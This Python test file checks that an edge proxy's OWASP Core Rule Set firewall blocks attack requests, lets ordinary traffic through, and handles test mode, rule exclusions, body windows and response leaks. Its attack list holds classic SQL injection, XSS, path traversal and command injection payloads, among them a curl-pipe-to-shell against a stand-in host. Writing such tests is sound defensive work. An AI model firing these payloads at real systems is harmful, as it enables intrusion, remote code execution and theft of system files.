"""owasp-crs-request and owasp-crs-response through the edge, the policies set by the official
Python SDK: the OWASP Core Rule Set (Debian's modsecurity-crs) run by ModSecurity v3 (the
libmodsecurity wheel), chalicelib/core/policy/waf.py. Attack traffic from the classic public
payloads of each class CRS names (SQL injection, XSS, path traversal and OS files, command
injection) is refused with 403 ERR_NGROK_3700 and never reaches the upstream; ordinary
traffic (browser-like pages, API calls with JSON and form bodies, searches with punctuation)
passes, its false positives counted (0 at paranoia level 1, the hosted default); test mode,
rule exclusions, the 4 KiB body window and the response rules, each at its rule."""

import json
import os
from urllib.parse import quote

import pytest

from chalicelib.core.policy import waf
from stacks.agents import SdkAgent
from tests.edge.test_edge_sdk import _bound, _credential, _host

KIB = 1024
CRS = "actions.ngrok.owasp_crs_request"
try:  # the edge runs with this interpreter's packages and the machine's rules
    import libmodsecurity  # noqa: F401

    ENGINE = os.path.isdir(os.path.join(waf.CRS_DIR, "rules"))
except ImportError:
    ENGINE = False
pytestmark = pytest.mark.skipif(
    not ENGINE,
    reason="libmodsecurity (edge/requirements.txt) or Debian's modsecurity-crs "
    "(scripts/install_test_deps.sh) is not installed",
)


def _req(**config):
    return {"type": "owasp-crs-request", "config": config}


POLICIES = {
    "block": {"on_http_request": [{"actions": [_req()]}]},
    "body": {"on_http_request": [{"actions": [_req(process_body=True)]}]},
    "test": {
        "on_http_request": [
            {
                "actions": [
                    _req(on_error="continue"),
                    {
                        "type": "custom-response",
                        "config": {
                            "body": f"${{{CRS}.decision}}|${{{CRS}.anomaly_score}}|"
                            f"${{{CRS}.anomaly_score_threshold}}|"
                            f"${{{CRS}.matched_rules.map(m, string(m.id)).join(',')}}|"
                            f"${{{CRS}.matched_rules[0].severity}}"
                        },
                    },
                ]
            }
        ]
    },
    "exclude": {"on_http_request": [{"actions": [_req(exclude_rule_ids=[942100])]}]},
    "rest": {
        "on_http_request": [{"actions": [_req(process_body=True, exclude_rule_ids=[911100])]}]
    },
    "response": {"on_http_response": [{"actions": [{"type": "owasp-crs-response"}]}]},
    "response_body": {
        "on_http_response": [
            {"actions": [{"type": "owasp-crs-response", "config": {"process_body": True}}]}
        ]
    },
}

BROWSER = {
    "User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    "Accept-Language": "en-US,en;q=0.5",
}

# (path and query) of each class; the query values percent-encoded as a client sends them
ATTACKS = [
    "/items?id=" + quote("1' OR '1'='1"),
    "/items?id=" + quote("1 UNION SELECT username, password FROM users--"),
    "/items?id=" + quote("1; DROP TABLE users"),
    "/search?q=" + quote("<script>alert(document.cookie)</script>"),
    "/search?q=" + quote('"><img src=x onerror=alert(1)>'),
    "/search?q=" + quote("javascript:alert(1)"),
    "/download?file=" + quote("../../../../etc/passwd"),
    "/download?file=" + quote("..\\..\\windows\\win.ini"),
    "/ping?host=" + quote("127.0.0.1; cat /etc/passwd"),
    "/ping?host=" + quote("$(curl http://evil.example/x.sh | sh)"),
]

BENIGN = [
    ("GET", "/", None, None),
    ("GET", "/index.html", None, None),
    ("GET", "/static/app.3f2a1c.js", None, None),
    ("GET", "/search?q=" + quote("how to bake bread, quickly?"), None, None),
    ("GET", "/search?q=" + quote("O'Reilly books & magazines"), None, None),
    ("GET", "/products?page=2&sort=price-desc&filter=color:blue", None, None),
    ("GET", "/users/42/orders?from=2026-01-01&to=2026-11-29", None, None),
    ("GET", "/api/v1/items?ids=1,2,3&fields=name,price", None, None),
    (
        "POST",
        "/api/v1/items",
        "application/json",
        b'{"name": "chair", "price": 49.9, "tags": ["wood"]}',
    ),
    (
        "POST",
        "/login",
        "application/x-www-form-urlencoded",
        b"username=ann&password=S3cret%21pass",
    ),
    ("POST", "/comments", "application/x-www-form-urlencoded", b"text=Great+post%2C+thanks%21"),
    ("PUT", "/api/v1/items/7", "application/json", b'{"price": 45, "note": "sale until Friday"}'),
    ("DELETE", "/api/v1/items/7", None, None),
]


@pytest.fixture(scope="module")
def hosts(edge, api):
    binds = [
        {"proto": "http", "options": {"traffic_policy": [json.dumps(policy)]}}
        for policy in POLICIES.values()
    ]
    agent = SdkAgent(edge, _credential(api.new_account())["token"], binds)
    bound = _bound(agent.start())
    yield dict(zip(POLICIES, (_host(b["url"]) for b in bound)))
    agent.stop()


@pytest.mark.parametrize("path", ATTACKS)
def test_an_attack_is_refused_before_the_upstream(edge, hosts, path):
    got = edge.http("GET", hosts["block"], path, headers=BROWSER)
    assert got.status_code == 403, (path, got.status_code, got.text[:200])
    assert got.headers["ngrok-error-code"] == "ERR_NGROK_3700"
    assert "blocked by the WAF" in got.text and '"method"' not in got.text


def _refused(edge, host):
    refused = []
    for method, path, media, body in BENIGN:
        headers = dict(BROWSER, **({"Content-Type": media} if media else {}))
        got = edge.http(method, host, path, headers=headers, data=body)
        if got.status_code == 403:
            refused.append(f"{method} {path}")
    return refused


def test_ordinary_traffic_passes_and_its_false_positives_are_counted(edge, hosts):
    # CRS's own default allows GET, HEAD, POST and OPTIONS only (911100): a REST API's PUT
    # and DELETE are its false positives at paranoia level 1, and nothing else here is
    assert _refused(edge, hosts["body"]) == ["PUT /api/v1/items/7", "DELETE /api/v1/items/7"]
    test = edge.http("PUT", hosts["test"], "/api/v1/items/7", headers=BROWSER)
    assert test.text.split("|")[3] == "911100"
    # excluding that rule, none of the ordinary requests is refused
    assert _refused(edge, hosts["rest"]) == []


def test_in_test_mode_the_verdict_is_only_told(edge, hosts):
    got = edge.http("GET", hosts["test"], ATTACKS[0], headers=BROWSER)
    decision, score, threshold, ids, severity = got.text.split("|")
    assert got.status_code == 200 and decision == "deny"
    assert int(score) >= 5 and threshold == "5" and "942100" in ids.split(",")
    assert severity == "CRITICAL"
    calm = edge.http("GET", hosts["test"], "/search?q=bread", headers=BROWSER)
    assert calm.text == "allow|0|5||"


def test_an_excluded_rule_scores_nothing(edge, hosts):
    # 1' OR '1'='1 is found by 942100 (libinjection) alone at paranoia level 1
    assert edge.http("GET", hosts["exclude"], ATTACKS[0], headers=BROWSER).status_code == 200
    assert edge.http("GET", hosts["exclude"], ATTACKS[3], headers=BROWSER).status_code == 403


def test_the_body_is_read_only_with_process_body_and_only_its_first_4_kib(edge, hosts):
    form = {"Content-Type": "application/x-www-form-urlencoded", **BROWSER}
    attack = b"q=" + quote("1 UNION SELECT password FROM users").encode()
    assert edge.http("POST", hosts["block"], "/echo", headers=form, data=attack).status_code == 200
    assert edge.http("POST", hosts["body"], "/echo", headers=form, data=attack).status_code == 403
    padding = b"pad=" + b"a" * (4 * KIB - 5) + b"&"  # the attack starts at byte 4097
    late = edge.http("POST", hosts["body"], "/echo", headers=form, data=padding + attack)
    assert late.status_code == 200
    early = edge.http(
        "POST", hosts["body"], "/echo", headers=form, data=padding[:-200] + b"&" + attack
    )
    assert early.status_code == 403


LEAK = (
    b"You have an error in your SQL syntax; check the manual that corresponds to your MySQL server"
)


def test_a_leaking_response_body_is_refused_when_the_body_is_read(edge, hosts):
    text = {"Content-Type": "text/plain", **BROWSER}
    passed = edge.http("POST", hosts["response"], "/reflect", headers=text, data=LEAK)
    assert passed.status_code == 200 and passed.content == LEAK  # headers only: passes
    refused = edge.http(
        "POST", hosts["response_body"], "/reflect?chunks=3", headers=text, data=LEAK
    )
    assert refused.status_code == 403 and refused.headers["ngrok-error-code"] == "ERR_NGROK_3700"
    assert b"SQL syntax" not in refused.content
    fine = edge.http("POST", hosts["response_body"], "/reflect", headers=text, data=b"all good")
    assert fine.status_code == 200 and fine.content == b"all good"
    big = b"x" * (4 * KIB) + LEAK  # past the 4 KiB window: not read, the response streams on
    late = edge.http("POST", hosts["response_body"], "/reflect?chunks=4", headers=text, data=big)
    assert late.status_code == 200 and late.content == big


def test_over_http2_the_same_verdicts(edge, hosts):
    ua = f"User-Agent: {BROWSER['User-Agent']}"
    calm = edge.curl_https(hosts["block"], "/search?q=bread", "--http2", "-H", ua)
    assert calm.stdout.rpartition("\n")[2] == "200", calm
    attack = edge.curl_https(hosts["block"], ATTACKS[3], "--http2", "-H", ua)
    assert attack.stdout.rpartition("\n")[2] == "403", attack
